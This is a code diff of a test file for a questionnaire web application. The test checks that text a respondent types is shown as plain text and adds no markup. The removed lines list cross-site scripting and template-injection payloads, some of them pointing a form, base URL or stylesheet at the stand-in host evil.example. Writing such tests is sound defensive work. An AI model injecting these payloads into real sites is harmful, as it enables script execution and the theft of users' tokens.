@@ -1,25 +1,8 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { startAssay, type TestAssay, type Visitor } from '../support/app.js';
 import { Browser, formFields, nameOrganisation, publish, send } from './respondent.js';
+import { payloads } from './payloads.js';
 import { sample } from './sample-questionnaire.js';
-
-const payloads = [
-  '<script>window.hit=1</script>',
-  '"><img src=x onerror=window.hit=1>',
-  "'><svg/onload=window.hit=1>",
-  '</textarea><script>window.hit=1</script>',
-  '</title><script>window.hit=1</script>',
-  '</template><script>window.hit=1</script>',
-  '<a href="javascript:window.hit=1">x</a>',
-  '{{constructor.constructor "return process"}}',
-  '{{{lookup this "__proto__"}}}',
-  '`${window.hit=1}`',
-  '<!--<img src="--><img src=x onerror=window.hit=1>',
-  '<style>@import "//evil.example/x"</style>',
-  '<base href="//evil.example/">',
-  '<form action="//evil.example/"><input name=token>',
-  '&lt;script&gt;window.hit=1&lt;/script&gt;',
-];
 
 /** Tags and attributes of ours; nothing a respondent wrote may add to them. */
 const foreign =
@@ -39,7 +22,7 @@ describe('text that means harm', () => {
 
   it.each(payloads)('is shown as it was typed, and nothing else: %s', async (payload) => {
     await nameOrganisation(assay, payload);
-    const sent = await send(assay, staff, versionId, { message: payload });
+    const sent = await send(staff, versionId, { message: payload });
     const human = new Browser(assay);
     const at = `/answer/a/${sent.assessmentId}`;
     const pages = [(await human.get(`/answer/${sent.secret}`)).text];
